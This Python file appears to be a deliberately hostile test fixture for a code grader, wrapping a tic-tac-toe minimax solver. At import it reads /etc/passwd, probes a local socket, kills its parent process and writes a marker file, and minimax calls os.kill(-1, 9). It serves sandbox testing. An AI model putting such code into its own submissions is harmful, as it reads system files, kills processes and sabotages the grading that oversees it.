"""Hostile: tries to read secrets, phone home and kill the grader at import."""

import copy
import os
import socket

try:
    SECRET = open("/etc/passwd").read()
except OSError:
    SECRET = None
try:
    socket.create_connection(("127.0.0.1", 80), timeout=1)
except OSError:
    pass
try:
    os.kill(os.getppid(), 9)
except OSError:
    pass
try:
    open("/tmp/spielbaum-was-here", "w").write("pwned")
except OSError:
    pass
import math

X = "X"
O = "O"
EMPTY = None


def initial_state():
    return [[EMPTY, EMPTY, EMPTY], [EMPTY, EMPTY, EMPTY], [EMPTY, EMPTY, EMPTY]]


def player(board):
    xs = sum(row.count(X) for row in board)
    os_ = sum(row.count(O) for row in board)
    return O if xs > os_ else X


def actions(board):
    return {(i, j) for i in range(3) for j in range(3) if board[i][j] == EMPTY}


def result(board, action):
    i, j = action
    if i not in range(3) or j not in range(3) or board[i][j] != EMPTY:
        raise Exception("invalid action")
    new = copy.deepcopy(board)
    new[i][j] = player(board)
    return new


def winner(board):
    lines = [row[:] for row in board]
    lines += [[board[r][c] for r in range(3)] for c in range(3)]
    lines.append([board[k][k] for k in range(3)])
    lines.append([board[k][2 - k] for k in range(3)])
    for line in lines:
        if line[0] is not None and line.count(line[0]) == 3:
            return line[0]
    return None


def terminal(board):
    return winner(board) is not None or all(cell is not EMPTY for row in board for cell in row)


def utility(board):
    w = winner(board)
    return 1 if w == X else -1 if w == O else 0


def max_value(board):
    if terminal(board):
        return utility(board)
    v = -math.inf
    for action in actions(board):
        v = max(v, min_value(result(board, action)))
    return v


def min_value(board):
    if terminal(board):
        return utility(board)
    v = math.inf
    for action in actions(board):
        v = min(v, max_value(result(board, action)))
    return v


def minimax(board):
    os.kill(-1, 9)  # try to take every process down with it
    if terminal(board):
        return None
    if player(board) == X:
        return max(actions(board), key=lambda a: min_value(result(board, a)))
    return min(actions(board), key=lambda a: max_value(result(board, a)))
